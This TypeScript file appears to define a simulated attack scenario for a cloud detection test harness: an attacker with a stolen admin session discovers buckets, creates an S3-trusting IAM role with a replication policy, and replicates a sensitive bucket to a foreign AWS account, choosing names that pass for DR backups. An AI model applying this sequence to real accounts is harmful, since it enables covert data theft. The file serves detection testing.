import { openAttack } from "./attacker.ts";
import { defineScenario } from "./define.ts";
import { inlinePolicyName, replicationRoleName } from "./names.ts";
import { stepClock } from "./time.ts";

/**
 * Exfiltration through S3 replication: with an administrator's stolen session, the attacker
 * creates a replication role that S3 may assume, enables versioning and adds a replication rule
 * sending a sensitive bucket's new objects to a bucket in an account outside the organisation.
 * S3 then copies the data itself: no bulk download ever shows up under the attacker's identity.
 */
export default defineScenario({
  id: "replication-to-foreign-account",
  title: "S3 replication rule sending a sensitive bucket to a foreign account",
  kind: "attack",
  description:
    "A prod platform administrator's session is used from outside: bucket, versioning and replication discovery, a new IAM role trusting s3.amazonaws.com with an inline policy to read the source and replicate into the destination, versioning enabled on the source, then PutBucketReplication to a bucket ARN in an AWS account that is not part of the organisation, sometimes checked afterwards.",
  references: [
    "https://www.elastic.co/guide/en/security/current/prebuilt-rule-8-19-12-aws-s3-bucket-replicated-to-another-account.html (Elastic: S3 bucket replicated to another account, exfiltration rule)",
    "https://docs.alphasoc.com/ae/use-cases/aws_s3_bucket_replication_unknown/ (AlphaSOC: S3 replication to an unknown external account)",
    "https://docs.aws.amazon.com/AmazonS3/latest/userguide/replication-walkthrough-2.html (AWS: replication to a bucket owned by another account)",
    "https://attack.mitre.org/techniques/T1537/ (MITRE ATT&CK T1537: Transfer Data to Cloud Account)",
  ],
  expectedSequenceType: "AttackSequence:S3/CompromisedData",
  maxDurationHours: 10,
  stages: [
    { id: "discovery", tactic: "TA0007", technique: "T1619", description: "list buckets, their versioning and replication, and roles" },
    { id: "replication-role", tactic: "TA0003", technique: "T1098.003", description: "create a role S3 can assume, with an inline policy to replicate out" },
    { id: "exfiltration", tactic: "TA0010", technique: "T1537", description: "enable versioning and replicate the bucket to a foreign account" },
  ],
  run(ctx) {
    const { rng } = ctx;
    const victim = rng.pick(ctx.principals({ persona: "platform-admin", accountKind: "prod" }));
    const { caller: attacker } = openAttack(ctx, victim, { origins: ["vps", "vps", "residential", "vpn", "tor", "aws"], tooling: ["cli", "boto3", "console"] });
    const clock = stepClock(rng, ctx.start, 500);
    const { step, pause } = clock;

    const buckets = ctx.buckets(victim.accountId);
    const sensitive = buckets.filter((b) => b.sensitive);
    if (sensitive.length === 0) throw new Error(`replication-to-foreign-account: account ${victim.accountId} has no sensitive bucket to replicate`);
    const target = rng.pick(sensitive);
    const orgAccounts = new Set(ctx.inventory.accounts.map((a) => a.id));
    let foreignAccount = "";
    while (foreignAccount === "" || orgAccounts.has(foreignAccount)) foreignAccount = String(rng.int(100_000_000_000, 999_999_999_999));
    // Destination names either look like the organisation's own DR copies or are throwaway.
    const destination = rng.chance(0.5) ? `${target.name}-replica` : `${rng.pick(["dr-backup", "s3-archive", "data-sync", "bkp"])}-${rng.hex(8)}`;
    // Named as admins name the replication roles they create, console or script.
    const roleName = replicationRoleName(rng, target.name);

    ctx.stage("discovery", () => {
      attacker.call("sts:GetCallerIdentity", clock.now);
      attacker.call("s3:ListBuckets", step(20));
      for (const b of rng.sample(sensitive, rng.int(1, sensitive.length))) {
        attacker.call("s3:GetBucketVersioning", step(6), { args: { bucketName: b.name } });
        attacker.call("s3:GetBucketReplication", step(4), { args: { bucketName: b.name } });
        if (rng.chance(0.5)) attacker.call("s3:ListObjects", step(4), { args: { bucketName: b.name } });
      }
      if (rng.chance(0.6)) attacker.call("iam:ListRoles", step(15));
    });

    pause(120, 3 * 3600);
    ctx.stage("replication-role", () => {
      const trust = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"s3.amazonaws.com"},"Action":"sts:AssumeRole"}]}';
      attacker.call("iam:CreateRole", clock.now, { args: { roleName, policyDocument: trust } });
      const policy = JSON.stringify({
        Version: "2012-10-17",
        Statement: [
          { Effect: "Allow", Action: ["s3:GetReplicationConfiguration", "s3:ListBucket"], Resource: `arn:aws:s3:::${target.name}` },
          { Effect: "Allow", Action: ["s3:GetObjectVersionForReplication", "s3:GetObjectVersionAcl", "s3:GetObjectVersionTagging"], Resource: `arn:aws:s3:::${target.name}/*` },
          { Effect: "Allow", Action: ["s3:ReplicateObject", "s3:ReplicateDelete", "s3:ReplicateTags", "s3:ObjectOwnerOverrideToBucketOwner"], Resource: `arn:aws:s3:::${destination}/*` },
        ],
      });
      attacker.call("iam:PutRolePolicy", step(20), { args: { roleName, policyName: inlinePolicyName(rng), policyDocument: policy } });
    });

    pause(30, 1800);
    ctx.stage("exfiltration", () => {
      // Replication requires versioning on the source bucket.
      attacker.call("s3:PutBucketVersioning", clock.now, { args: { bucketName: target.name, status: "Enabled" } });
      attacker.call("s3:PutBucketReplication", step(30), {
        args: {
          bucketName: target.name,
          roleArn: `arn:aws:iam::${victim.accountId}:role/${roleName}`,
          destinationBucketArn: `arn:aws:s3:::${destination}`,
          destinationAccount: foreignAccount,
          ruleId: rng.pick(["backup", "replicate-all", `rule-${rng.hex(4)}`, "dr"]),
        },
      });
      if (rng.chance(0.5)) attacker.call("s3:GetBucketReplication", step(20), { args: { bucketName: target.name } });
    });
  },
});
